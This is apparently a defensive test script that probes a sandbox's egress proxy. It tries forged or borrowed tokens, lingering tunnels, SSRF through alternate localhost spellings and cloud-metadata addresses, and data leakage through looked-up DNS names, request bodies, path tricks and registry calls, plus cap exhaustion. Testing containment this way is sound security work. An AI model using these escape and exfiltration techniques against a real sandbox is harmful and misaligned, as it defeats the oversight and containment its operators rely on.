"""Tries to get out by the way that a sandbox is given. Prints one line per try: `wall <tab> held|ESCAPED <tab> name <tab> detail`.

Facts come as JSON in the first argument; names after it pick the tries to make. A try that finds nothing returns None.
Whoever is reached outside says REACHED, whatever is said to it.
"""
import json, os, socket, ssl, sys, time

HOST = json.loads(sys.argv[1])
OWN = HOST["attempts"]["own"]
LISTED, INSIDE = f"listed.example:{HOST['listed']}", f"127.0.0.1:{HOST['inside']}"
PROBES = []


def probe(name, wall):
    def add(function):
        PROBES.append((name, wall, function))
        return function
    return add


def head(stream):
    said = b""
    while not said.endswith(b"\r\n\r\n"):
        byte = stream.recv(1)
        if not byte:
            break
        said += byte
    return said.decode("latin-1")


def way(attempt=OWN, token=None, address=None):
    """A connection to the proxy, or None with what was answered."""
    stream = socket.socket(socket.AF_UNIX)
    stream.settimeout(30)
    stream.connect(HOST["socket"])
    if HOST["asks_no_token"]:
        return stream, ""
    token = attempt["token"] if token is None else token
    says = f"authorization: Bearer {token}\r\n" if token else ""
    path = f"/api/v1/sandboxes/{address or attempt['id']}/egress"
    stream.sendall(f"GET {path} HTTP/1.1\r\nhost: omoi\r\n{says}connection: upgrade\r\nupgrade: omoi-egress\r\n\r\n".encode())
    answer = head(stream)
    return (stream if answer.startswith("HTTP/1.1 101") else None), answer


def tunnel(target):
    """A tunnel to `target`, or None."""
    stream, answer = way()
    assert stream, answer
    stream.sendall(f"CONNECT {target} HTTP/1.1\r\nhost: {target}\r\n\r\n".encode())
    return stream if head(stream).startswith("HTTP/1.1 200") else None


class Tls:
    """The client's half of TLS, fed by hand so that raw answers are seen."""
    def __init__(self, name):
        context = ssl.create_default_context(cafile=HOST["certificate"])
        self.into, self.out = ssl.MemoryBIO(), ssl.MemoryBIO()
        self.tls = context.wrap_bio(self.into, self.out, server_hostname=name)

    def greeting(self):
        try:
            self.tls.do_handshake()
        except ssl.SSLWantReadError:
            return self.out.read()

    def send(self, stream):
        # Nothing at all cannot be sent to who has gone away.
        if said := self.out.read():
            stream.sendall(said)

    def run(self, stream, step):
        """Makes a step of it; None when the other side ends it, or says REACHED."""
        while True:
            try:
                done = step()
                self.send(stream)
                return done
            except ssl.SSLWantReadError:
                self.send(stream)
                said = stream.recv(65536)
                if not said or said.startswith(b"REACHED"):
                    return said or None
                self.into.write(said)


def reached(stream, said):
    """What the other side of an open tunnel answers to bytes."""
    if stream is None:
        return None
    try:
        stream.sendall(said)
        return "reached" if b"REACHED" in stream.recv(65536) else None
    except OSError:
        return None


def asked(request, stream=None):
    """The answer to a request that names its host itself."""
    stream = stream or way()[0]
    stream.sendall((request + "\r\nconnection: close\r\n\r\n").encode())
    said = b""
    while chunk := stream.recv(65536):
        said += chunk
    return said.decode("latin-1")


def of_registry(request, body=b"", host="registry.npmjs.org"):
    """The answer of a registry, or that it was reached itself."""
    stream = tunnel(f"{host}:443")
    assert stream, "no tunnel to a registry"
    tls = Tls(host)
    begun = tls.run(stream, tls.tls.do_handshake)
    if begun == b"REACHED":
        return "REACHED"
    assert begun is None, begun
    tls.run(stream, lambda: tls.tls.write((request + f"\r\ncontent-length: {len(body)}\r\n\r\n").encode() + body))
    return (tls.run(stream, lambda: tls.tls.read(65536)) or b"").decode("latin-1")


def refused_with(answer, *reasons):
    """None for a refusal for one of these reasons."""
    lines = answer.lower().split("\r\n")
    is_refused = lines[0].startswith("http/1.1 403") and any(f"omoi-egress-reason: {reason}" in lines for reason in reasons)
    return None if is_refused else answer[:200] or "no answer"


@probe("CONTROL: a listed host answers, in a tunnel and plainly", "control")
def _():
    assert reached(tunnel(LISTED), Tls("listed.example").greeting()), "no tunnel"
    answer = asked(f"GET http://{LISTED}/ HTTP/1.1\r\nhost: {LISTED}")
    return None if "REACHED" in answer else answer


@probe("CONTROL: the proxy speaks for a registry, with a certificate that is trusted", "control")
def _():
    answer = of_registry("GET / HTTP/1.1\r\nhost: registry.npmjs.org")
    return None if answer.startswith("HTTP/1.1 ") else answer


def entered(**by):
    stream, answer = way(**by)
    return f"let in: {answer[:100]}" if stream else None


@probe("use the way with no token", "token")
def _(): return entered(token="")

@probe("use the way with a made-up token", "token")
def _(): return entered(token="0" * 64)

@probe("use the way of another attempt with the own token", "token")
def _(): return entered(address=HOST["attempts"]["other"]["id"])

@probe("use another attempt's token at the own address", "token")
def _(): return entered(token=HOST["attempts"]["other"]["token"])

@probe("use the way with a planner's token", "token")
def _(): return entered(attempt=HOST["attempts"]["planner"])

@probe("use the way with the token of a check", "token")
def _(): return entered(attempt=HOST["attempts"]["check"])

@probe("use the way with the token of an attempt that is over", "token")
def _(): return entered(attempt=HOST["attempts"]["over"])


@probe("keep a tunnel beyond the end of its attempt", "end")
def _():
    stream, answer = way(attempt=HOST["attempts"]["closing"])
    assert stream, answer
    stream.sendall(f"CONNECT {LISTED} HTTP/1.1\r\nhost: {LISTED}\r\n\r\n".encode())
    assert head(stream).startswith("HTTP/1.1 200")
    assert reached(stream, Tls("listed.example").greeting())
    # The platform ends the attempt when it sees this.
    open(HOST["work"] + "/tunnel-is-open", "w").close()
    stream.settimeout(HOST["patience"])
    try:
        while stream.recv(65536):
            pass
        return None
    except ConnectionError:
        return None
    except TimeoutError:
        return "the tunnel is open still"


@probe("tunnel to a host that nobody listed", "list")
def _(): return reached(tunnel(f"other.example:{HOST['inside']}"), Tls("other.example").greeting())

@probe("tunnel to another port of a listed host", "list")
def _(): return reached(tunnel(f"listed.example:{HOST['inside']}"), Tls("listed.example").greeting())

@probe("ask a host plainly that nobody listed", "list")
def _():
    name = f"other.example:{HOST['inside']}"
    return "reached" if "REACHED" in asked(f"GET http://{name}/ HTTP/1.1\r\nhost: {name}") else None

@probe("send a message as a name that is looked up", "list")
def _():
    # Whether it was looked up, the platform sees.
    tunnel(f"the-secret-is-42.other.example:{HOST['inside']}")

@probe("reach a name server through the way", "list")
def _(): return "opened" if tunnel("ns.example:53") or tunnel("1.1.1.1:53") else None


@probe("tunnel to an address of this machine", "addresses")
def _(): return reached(tunnel(INSIDE), Tls("listed.example").greeting()) or ("opened" if tunnel(INSIDE) else None)

@probe("tunnel to that address in other spellings", "addresses")
def _():
    spellings = ["2130706433", "0x7f.1", "0177.0.0.1", "127.1", "127.0.0.1.", "[::ffff:127.0.0.1]", "[::1]", "localhost", "LOCALHOST.", "0.0.0.0", "[::]", "0"]
    return next((name for name in spellings if tunnel(f"{name}:{HOST['inside']}")), None)

@probe("tunnel to a listed name that leads into this network", "addresses")
def _(): return reached(tunnel(f"inside.example:{HOST['inside']}"), Tls("inside.example").greeting())

@probe("ask a listed name plainly that leads into this network", "addresses")
def _():
    name = f"inside.example:{HOST['inside']}"
    return "reached" if "REACHED" in asked(f"GET http://{name}/ HTTP/1.1\r\nhost: {name}") else None

@probe("be redirected by a listed host to a private address", "addresses")
def _():
    answer = asked(f"GET http://{LISTED}/redirect HTTP/1.1\r\nhost: {LISTED}")
    target = next(line.split(": ", 1)[1] for line in answer.split("\r\n") if line.lower().startswith("location: "))
    answer = asked(f"GET {target} HTTP/1.1\r\nhost: {INSIDE}")
    return "reached" if "REACHED" in answer else None

@probe("reach the data of a cloud's machines", "addresses")
def _(): return "opened" if tunnel("169.254.169.254:80") or tunnel("metadata.google.internal:80") else None


@probe("speak to another host inside of a tunnel", "tls")
def _(): return reached(tunnel(LISTED), Tls("other.example").greeting())

@probe("speak something else than TLS inside of a tunnel", "tls")
def _():
    return next((found for found in (reached(tunnel(LISTED), said) for said in (b"SSH-2.0-OpenSSH_9.6\r\n", b"GET / HTTP/1.1\r\nhost: x\r\n\r\n")) if found), None)

@probe("post to a listed host plainly", "reading")
def _():
    answer = asked(f"POST http://{LISTED}/ HTTP/1.1\r\nhost: {LISTED}\r\ncontent-length: 0")
    return refused_with(answer, "method_not_allowed")

@probe("send a body with a request for reading", "reading")
def _():
    answer = asked(f"GET http://{LISTED}/ HTTP/1.1\r\nhost: {LISTED}\r\ntransfer-encoding: chunked\r\nconnection: close\r\n\r\n6\r\nsecret\r\n0")
    return refused_with(answer, "body_not_allowed")


NPM = "host: registry.npmjs.org\r\nconnection: close"

@probe("upload to a registry", "registry")
def _(): return refused_with(of_registry(f"PUT /left-pad HTTP/1.1\r\n{NPM}", b"{}"), "publish_refused")

@probe("search a registry, which sends it words", "registry")
def _(): return refused_with(of_registry(f"GET /-/v1/search?text=secret HTTP/1.1\r\n{NPM}"), "search_refused")

@probe("have a registry audit, which sends it lists", "registry")
def _(): return refused_with(of_registry(f"POST /-/npm/v1/security/audits HTTP/1.1\r\n{NPM}", b"{}"), "audit_refused")

@probe("send a registry a body", "registry")
def _(): return refused_with(of_registry(f"GET /left-pad HTTP/1.1\r\n{NPM}", b"secret"), "body_not_allowed")

@probe("send a registry a path of one's own", "registry")
def _(): return refused_with(of_registry(f"GET /left-pad/../the-secret-is-42/%2e%2e/x HTTP/1.1\r\n{NPM}"), "path_not_allowed")

@probe("ask for another host inside of a registry's tunnel", "registry")
def _(): return refused_with(of_registry("GET /left-pad HTTP/1.1\r\nhost: other.example\r\nconnection: close"), "server_name_differs")

@probe("fetch a package that the cache does not have", "registry")
def _(): return refused_with(of_registry(f"GET /left-pad HTTP/1.1\r\n{NPM}"), "not_cached")

@probe("ask a registry without TLS", "registry")
def _(): return refused_with(asked("GET http://registry.npmjs.org/left-pad HTTP/1.1\r\nhost: registry.npmjs.org"), "registry_without_tls")


@probe("hold more connections than the cap", "caps")
def _():
    held, open_ones = [], 0
    for _ in range(80):
        stream, _answer = way()
        if stream is None:
            break
        stream.sendall(f"CONNECT {LISTED} HTTP/1.1\r\nhost: {LISTED}\r\n\r\n".encode())
        open_ones += head(stream).startswith("HTTP/1.1 200")
        held.append(stream)
    for stream in held:
        stream.close()
    # They are given back when the platform sees that they are closed.
    for _ in range(200):
        stream = tunnel(LISTED) if HOST["asks_no_token"] or way()[0] else None
        if stream:
            stream.close()
            break
        time.sleep(0.05)
    return f"{open_ones} at once" if open_ones > 64 else None

@probe("open connections to the platform without end", "caps")
def _():
    held = []
    for _ in range(300):
        stream = socket.socket(socket.AF_UNIX)
        stream.connect(HOST["socket"])
        stream.setblocking(False)
        held.append(stream)
    # Who has a token is let in all the same.
    assert way()[0], "others are kept out"

    def is_open(stream):
        try:
            return stream.recv(1) != b""
        except BlockingIOError:
            return True
        except ConnectionError:
            return False

    until = time.monotonic() + HOST["patience"]
    while (open_ones := sum(map(is_open, held))) > 128 and time.monotonic() < until:
        time.sleep(0.02)
    for stream in held:
        stream.close()
    return f"{open_ones} at once" if open_ones > 128 else None

@probe("send more than the cap", "caps")
def _():
    stream, sent, chunk = tunnel(LISTED), 0, b"x" * (1 << 20)
    assert stream
    try:
        stream.sendall(Tls("listed.example").greeting())
        for _ in range(52):
            stream.sendall(chunk)
            sent += len(chunk)
        stream.shutdown(socket.SHUT_WR)
        said = b""
        while got := stream.recv(65536):
            said += got
        counted = int(said.rsplit(b"GOT ", 1)[1]) if b"GOT " in said else 0
        return f"{counted} bytes" if counted > 50 << 20 else None
    except OSError:
        return None

@probe("ask more often than the cap of a minute", "caps")
def _():
    answered, stream = 0, None
    for _ in range(620):
        stream = stream or way()[0]
        stream.sendall(f"GET http://{LISTED}/ HTTP/1.1\r\nhost: {LISTED}\r\n\r\n".encode())
        lines = head(stream).lower().split("\r\n")
        answered += lines[0].startswith("http/1.1 200")
        length = next((int(line.split(":")[1]) for line in lines if line.startswith("content-length:")), 0)
        while length:
            length -= len(stream.recv(length))
        # Where nobody stands between, the host ends the connection.
        stream = None if "connection: close" in lines else stream
    return f"{answered} answers" if answered > 600 else None


for name, wall, function in PROBES:
    if sys.argv[2:] and name not in sys.argv[2:]:
        continue
    try:
        got = function()
    except Exception as error:
        got = f"the probe itself failed: {error!r}"
    print(wall, "held" if got is None else "ESCAPED", name, "" if got is None else repr(got)[:300], sep="\t", flush=True)
